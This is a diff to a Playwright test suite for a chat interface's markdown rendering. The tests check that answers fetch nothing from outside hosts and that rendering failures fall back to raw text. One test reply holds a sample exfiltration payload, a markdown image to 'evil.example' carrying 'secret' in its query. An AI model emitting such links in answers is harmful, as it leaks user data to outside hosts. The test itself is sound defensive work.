@@ -279,11 +279,33 @@ def test_an_answer_fetches_nothing(play: Play, page: Page) -> None:
     """Neither its pictures nor anything of its links; no element has an attribute that it chose but for these."""
     asked: list[str] = []
     page.on("request", lambda request: asked.append(request.url))
-    play.server.reply("![p](https://evil.example/x.png?q=secret) [l](https://secret.evil.example/) ![q](page.css)")
+    play.server.reply(
+        "![p](https://evil.example/x.png?q=secret) [l](https://secret.evil.example/) ![q](page.css) [m](https://[)"
+    )
     answer = ask(page)
     expect(answer.get_by_role("link", name="image: p")).to_be_visible()
     expect(status(page)).to_have_text(COMPLETE)
     assert all(url.startswith((play.url, play.url.replace("http", "ws"))) for url in asked)
+    # What is no address is no link, and nothing else suffers from it.
+    expect(answer.get_by_role("link")).to_have_text(["image: p", "l"])
     assert answer.locator("img").count() == 0
     names = answer.locator(".answer *").evaluate_all("all => all.flatMap((node) => node.getAttributeNames())")
     assert set(names) <= {"class", "href", "title", "target", "rel"}
+
+
+def test_what_can_not_be_rendered_is_shown_as_it_is(play: Play, page: Page, complaints: list[str]) -> None:
+    """Where the rendering fails, the text goes on, and the answer is whole; another try renders it."""
+    go = Gate()
+    play.server.raw([chunk("# One\n\n*tw"), Until(go), chunk("o*", finish="stop"), DONE])
+    page.route("**/api/markdown", lambda route: route.abort())
+    answer = ask(page)
+    expect(answer.locator(".answer")).to_have_text("# One\n\n*tw", use_inner_text=True)
+    go.set()
+    expect(status(page)).to_have_text(COMPLETE)
+    expect(answer.locator(".answer")).to_have_text("# One\n\n*two*", use_inner_text=True)
+    assert "ERR_FAILED" in complaints.pop()
+    page.unroute("**/api/markdown")
+    answer.get_by_role("button", name="Edit").click()
+    page.get_by_role("button", name="Save", exact=True).click()
+    expect(answer.locator("h3")).to_have_text("One")
+    expect(answer.locator("em")).to_have_text("two")
